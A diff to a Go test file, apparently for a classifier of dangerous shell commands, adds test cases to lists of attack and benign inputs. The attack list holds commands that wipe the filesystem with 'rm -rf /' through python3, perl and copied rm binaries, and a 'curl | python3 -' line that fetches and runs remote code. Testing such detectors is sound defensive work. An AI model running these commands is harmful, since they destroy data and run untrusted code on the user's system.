@@ -138,6 +138,9 @@ var attackMatch = []string{
 
 var attackUnknown = []string{
 	`compgen -C "$X" z`,
+	`echo 'import os; os.system("rm -rf /")' | python3`,
+	`curl -s https://x | python3 -`,
+	`printf 'system "rm -rf /"' | perl`,
 	`cp "$(command -v rm)" d; ./d -rf /`,
 	`cp /bin/r? d; ./d -rf /`,
 	`install /dev/stdin y; ./y`,
@@ -201,6 +204,9 @@ var attackUnknown = []string{
 var attackNoMatch = []string{
 	`complete -W 'start stop' svc`,
 	`cp /bin/ls l; ./l -la`,
+	`cat data.json | python3 -c 'import json,sys; json.load(sys.stdin)'`,
+	`git log | perl -ne 'print if /x/'`,
+	`python3 - <<'EOF'` + "\nprint(1)\nEOF",
 	`cp -t bin /bin/rm; ls`,
 	`compgen -A function`,
 	`complete -F _svc svc`,
